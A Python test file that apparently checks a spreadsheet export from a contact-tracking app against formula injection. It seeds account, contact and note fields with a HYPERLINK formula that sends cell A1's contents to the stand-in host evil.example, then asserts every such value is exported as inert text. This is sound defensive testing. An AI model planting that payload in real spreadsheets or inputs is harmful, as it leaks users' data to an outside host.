"""Text that a spreadsheet would run stays text, in every file that leaves the book."""

from __future__ import annotations

from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from handlers.answering import OPERATOR
from handlers.exporting import FORMULA_STARTS, export_book
from messages.i18n import Phrasebook
from scoring.model import Locale
from storage.tables import accounts, contacts, touches
from tests.chatting import Chat

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("start", FORMULA_STARTS)
async def test_no_cell_of_an_export_is_a_formula(chat: Chat, start: str) -> None:
    hostile = start + FORMULA[1:]
    await chat("log HT-1 called", as_="李雷")
    async with chat.store.begin() as tx:
        for column in (accounts.c.name, accounts.c.region, accounts.c.industry):
            one = accounts.c.id == 1
            await tx.connection.execute(update(accounts).where(one).values({column: hostile}))
        await tx.connection.execute(update(accounts).values(aliases=[hostile]))
        await tx.connection.execute(update(touches).values(note=hostile, contact=hostile))
        await tx.connection.execute(update(contacts).values(name=hostile))
    async with chat.store.read() as tx:
        content, _ = await export_book(tx, OPERATOR, Phrasebook(Locale.EN), operator=True)
    for name in ZipFile(BytesIO(content)).namelist():
        if "worksheets" in name:
            assert b"<f>" not in ZipFile(BytesIO(content)).read(name)
    book = load_workbook(BytesIO(content))
    cells = [cell for page in book for row in page.rows for cell in row if cell.value is not None]
    assert len(book.sheetnames) >= 4
    # A carriage return reads back as a line feed, as XML has it.
    dangerous = [cell for cell in cells if str(cell.value).startswith((*FORMULA_STARTS, "\n"))]
    texts = [cell for cell in dangerous if isinstance(cell.value, str)]
    assert len(texts) >= 4
    assert [cell.value for cell in texts if cell.data_type != "s" or not cell.quotePrefix] == []
